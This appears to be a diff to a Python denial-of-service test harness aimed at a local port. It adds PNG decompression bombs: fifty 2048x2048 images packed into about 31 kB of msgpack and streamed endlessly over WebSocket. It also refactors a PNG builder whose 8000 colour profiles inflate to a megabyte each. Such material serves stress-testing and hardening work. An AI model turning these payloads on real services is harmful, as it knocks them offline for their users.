@@ -61,13 +61,13 @@ def _repeat(head: bytes, data: bytes) -> Attack:
     return attack
 
 
-def _websocket(data: bytes, pause_s: float = 0.0) -> Attack:
+def _websocket(data: bytes, pause_s: float = 0.0, path: bytes = b"/v1/stream") -> Attack:
     """Return an attack that sends frames without end over WebSockets."""
 
     def attack(port: int, until_s: float, rng: random.Random) -> None:
         while time.monotonic() < until_s:
             with _connection(port) as opened:
-                opened.sendall(_HANDSHAKE)
+                opened.sendall(_HANDSHAKE.replace(b"/v1/stream", path))
                 opened.recv(4096)
                 _send_for(opened, data, until_s)
             time.sleep(pause_s)
@@ -155,18 +155,34 @@ def many_scans(num_scans: int = 4000) -> bytes:
     return data[:last] + (data[last:end] + b"\x00" * 2) * num_scans + b"\xff\xd9"
 
 
+def _chunk(name: bytes, data: bytes) -> bytes:
+    """Return a part of a PNG."""
+    crc = struct.pack(">I", zlib.crc32(name + data))
+    return struct.pack(">I", len(data)) + name + data + crc
+
+
+def _bombs(num_cameras: int) -> bytes:
+    """Return a message to openpi's socket with 50 pictures of 4 million pixels in 31 kB.
+
+    So many of them are where cameras are read, the others anywhere.
+    """
+    side = 2048
+    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    rows = zlib.compress(bytes(side * (1 + side // 8)), 9)
+    chunks = _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")
+    bomb = {"__image__": True, "format": "png", "data": b"\x89PNG\r\n\x1a\n" + chunks}
+    cameras = {f"camera {number}": bomb for number in range(num_cameras)}
+    others = {f"other {number}": bomb for number in range(50 - num_cameras)}
+    return bytes(msgpack.packb({"images": cameras, "prompt": "x", "others": others}))
+
+
 def many_chunks(kind: bytes = b"iCCP", num_chunks: int = 8000) -> bytes:
     """Return a PNG with profiles that inflate to a megabyte each."""
-
-    def chunk(name: bytes, data: bytes) -> bytes:
-        crc = struct.pack(">I", zlib.crc32(name + data))
-        return struct.pack(">I", len(data)) + name + data + crc
-
     header = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
     profile = b"x\x00\x00" + zlib.compress(bytes(1024 * 1024 - 1), 9)
-    pixels = chunk(b"IDAT", zlib.compress(bytes(64 * (64 * 3 + 1)))) + chunk(b"IEND", b"")
-    body = chunk(kind, profile) * num_chunks
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + pixels
+    pixels = _chunk(b"IDAT", zlib.compress(bytes(64 * (64 * 3 + 1)))) + _chunk(b"IEND", b"")
+    body = _chunk(kind, profile) * num_chunks
+    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + body + pixels
 
 
 @cache
@@ -278,6 +294,8 @@ FLOODS: dict[str, Attack] = {
     "PNGs of 8000 profiles": _posted(lambda _: _png()),
     "16 MB of zeros in JSON": _posted(lambda _: _ZEROS, kind=b"json"),
     "16 MB of maps in msgpack": _posted(lambda _: _maps()),
+    "bombs where no camera is": _websocket(_frame(2, _bombs(1)), path=b"/"),
+    "bombs for nine cameras": _websocket(_frame(2, _bombs(9)), path=b"/"),
     "a content type of semicolons": _repeat(
         _POST.replace(b"application/msgpack", b"multipart/form-data" + b";" * 8000)
         + b"content-length: 1\r\n\r\nx",
